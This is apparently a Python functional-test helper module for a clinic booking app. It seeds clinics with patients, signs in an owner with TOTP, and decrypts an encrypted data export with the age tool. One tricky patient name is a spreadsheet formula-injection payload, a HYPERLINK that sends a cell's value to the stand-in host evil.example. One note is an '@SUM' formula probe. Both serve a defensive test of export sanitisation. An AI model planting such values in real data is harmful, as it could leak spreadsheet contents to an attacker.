"""Two clinics full of data, an owner signed in with a second factor, and an export opened with `age`."""

from __future__ import annotations

import io
import json
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pyotp
import requests
from chalice.test import Client

from chalicelib import clock
from chalicelib.services import customers
from tests.functional.booking.helpers import Clinic, at, book, make_clinic, next_weekday
from tests.functional.identity.helpers import PASSWORD, Account, body, call, login, post_json, token_for
from tests.harness.age_cli import age_decrypt

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@dataclass
class Filled:
    """A clinic with customers (notes included) and bookings, and what was put in."""

    clinic: Clinic
    customer_ids: set[str] = field(default_factory=set)
    booking_ids: set[str] = field(default_factory=set)
    names: set[str] = field(default_factory=set)
    emails: set[str] = field(default_factory=set)
    notes: set[str] = field(default_factory=set)


def filled_clinic(client: Client, slug: str, patients: int = 3, tricky: bool = False) -> Filled:
    """A clinic whose patients each booked once online; the clinic wrote notes on each of them."""
    clinic = make_clinic(slug, roles=("admin",))
    filled = Filled(clinic)
    day = next_weekday()
    for number in range(patients):
        name = HOSTILE_NAME if tricky and number == 0 else f"{slug.title()} Patient {number}"
        email, phone = f"patient{number}@{slug}-mail.example", f"+1415555{number:04d}"
        made = book(client, clinic, at(day, f"{9 + number}:00"),
                    customer={"name": name, "email": email, "phone": phone})
        assert made.status_code == 201, made.body
        booking = body(made)["booking"]
        filled.booking_ids.add(booking["id"])
        found = customers.find_customer_ids_by_email(clinic.org_id, email)
        filled.customer_ids.update(found)
        note = f"@SUM(1+1) allergy note {slug} {number}" if tricky and number == 1 else f"Notes on {slug} {number}"
        customers.staff_update(clinic.owner, found[0], {"notes": note})
        filled.names.add(name)
        filled.emails.add(email)
        filled.notes.add(note)
    return filled


@dataclass
class Owner:
    account: Account
    secret: str
    token: str  # a session that began with the authenticator app

    def code(self, fake_clock: Any) -> str:
        """A code of a later time step than any used before (each is accepted once)."""
        fake_clock.advance(seconds=30)
        return pyotp.TOTP(self.secret).at(clock.now())


def owner_with_second_factor(client: Client, account: Account, fake_clock: Any) -> Owner:
    """Enrol an authenticator app and sign in again with it: a session of assurance 2."""
    first = token_for(client, account)
    secret = body(call(client, "POST", "/v1/auth/mfa/totp/enroll", first, {"password": PASSWORD}))["secret"]
    confirmed = post_json(client, "/v1/auth/mfa/totp/confirm", {"code": pyotp.TOTP(secret).at(clock.now())}, first)
    assert confirmed.status_code == 200, confirmed.body
    fake_clock.advance(hours=25)  # a factor this new is not yet the fresh factor of an export (ADR 0015)
    mfa_token = body(login(client, account))["mfa_token"]
    verified = post_json(client, "/v1/auth/mfa/verify",
                         {"mfa_token": mfa_token, "method": "totp", "code": pyotp.TOTP(secret).at(clock.now())})
    assert verified.status_code == 200, verified.body
    return Owner(account, secret, body(verified)["token"])


def signed_in_again(client: Client, owner: Owner, fake_clock: Any) -> Owner:
    """A new session of `owner` that began with the app (after the clock ran past the old one's)."""
    mfa_token = body(login(client, owner.account))["mfa_token"]
    verified = post_json(client, "/v1/auth/mfa/verify",
                         {"mfa_token": mfa_token, "method": "totp", "code": owner.code(fake_clock)})
    assert verified.status_code == 200, verified.body
    return Owner(owner.account, owner.secret, body(verified)["token"])


def start_export(client: Client, owner: Owner, code: str | None):
    """Ask with the step-up in the request: the password and a current code (none: an empty body)."""
    return post_json(client, "/v1/org/exports", {"password": PASSWORD, "code": code} if code else {}, owner.token)


def wait_for_release(client: Client, owner: Owner, export_id: str, fake_clock: Any) -> Any:
    """Let the cooling-off (1 hour) pass in steps the session's idle timeout survives; every read before
    the release is refused. Returns the first answer after it."""
    for _ in range(4):
        refused = call(client, "GET", f"/v1/org/exports/{export_id}", owner.token)
        assert refused.status_code in (200, 409), refused.body  # queued or running: 200; made: not released
        fake_clock.advance(minutes=16)
    return call(client, "GET", f"/v1/org/exports/{export_id}", owner.token)


def run_export_job() -> dict[str, Any]:
    """The scheduled `org_exports` job, run now."""
    from chalicelib.jobs.org_exports import run_org_exports
    from chalicelib.jobs.runner import run_job

    return run_job("org_exports", run_org_exports, audited=False).as_dict()


def made_export(client: Client, owner: Owner, fake_clock: Any) -> dict[str, Any]:
    """Ask for an export, let the job make it, and read it back: the ready export with its key."""
    asked = start_export(client, owner, owner.code(fake_clock))
    assert asked.status_code == 202, asked.body
    queued = body(asked)["export"]
    assert queued["status"] == "queued"
    assert run_export_job()["ok"]
    ready = body(wait_for_release(client, owner, queued["id"], fake_clock))["export"]
    assert ready["status"] == "ready", ready
    return {**ready, "decryption_key": queued["decryption_key"]}


def download(url: str) -> bytes:
    """What the presigned link gives (moto answers it in-process)."""
    answer = requests.get(url, timeout=10)
    assert answer.status_code == 200, answer.text
    return answer.content


def opened_with_age(encrypted: bytes, key: str, tmp_path: Path) -> dict[str, bytes]:
    """Decrypt with the `age` CLI and unzip: {file name: bytes}."""
    sealed, plain = tmp_path / "export.zip.age", tmp_path / "export.zip"
    sealed.write_bytes(encrypted)
    opened = age_decrypt(sealed, plain, key)
    assert opened.returncode == 0, opened.stderr
    with zipfile.ZipFile(io.BytesIO(plain.read_bytes())) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def json_file(files: dict[str, bytes], name: str) -> Any:
    return json.loads(files[name])

